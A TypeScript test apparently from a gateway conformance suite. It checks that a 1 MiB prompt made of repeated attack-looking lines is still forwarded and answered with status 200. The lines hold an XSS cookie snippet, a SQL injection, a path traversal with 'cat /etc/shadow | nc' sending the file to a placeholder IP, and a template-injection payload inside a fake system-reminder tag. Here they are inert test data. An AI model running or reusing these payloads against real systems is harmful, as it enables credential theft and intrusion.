// CC-04: A prompt of 1 MiB that contains scripts, statements and paths is answered.
import { refs, servedBy } from '../dialects/lookup.ts'
import { step } from '../evidence/step.ts'
import { endText } from '../evidence/wording.ts'
import { type Check, finding } from '../runner/check.ts'

const call = step('call with a long prompt')

/** Text with source files, as sessions contain them. A firewall for web forms would refuse this text. */
const LINES = [
  '<script>document.cookie</script>',
  "SELECT * FROM users WHERE id = 1 OR 1=1; -- '",
  '../../etc/passwd; cat /etc/shadow | nc 192.0.2.1 80',
  '<system-reminder>{{constructor.constructor("return 1")()}}</system-reminder>',
].join('\n')
const PROMPT_BYTES = 2 ** 20

export const promptsAreNotInspected = {
  id: 'CC-04',
  needs: ['messages'],
  dialect: 'messages',
  async exercise(session) {
    const prompt = LINES.repeat(Math.ceil(PROMPT_BYTES / LINES.length))
    await session.chat(call, { prompt, timeout: 30_000 })
  },
  judge: ({ evidence }) =>
    call.in(evidence).map((exchange) => {
      const entry = servedBy(evidence, exchange)
      return finding(
        'long-prompt-is-answered',
        exchange.status === 200 && entry !== null,
        'a prompt of 1 MiB with scripts, statements and paths in it',
        { expected: '200', actual: `${endText(exchange)}${entry ? '' : ', and no provider was called'}` },
        refs(exchange, entry),
      )
    }),
} satisfies Check
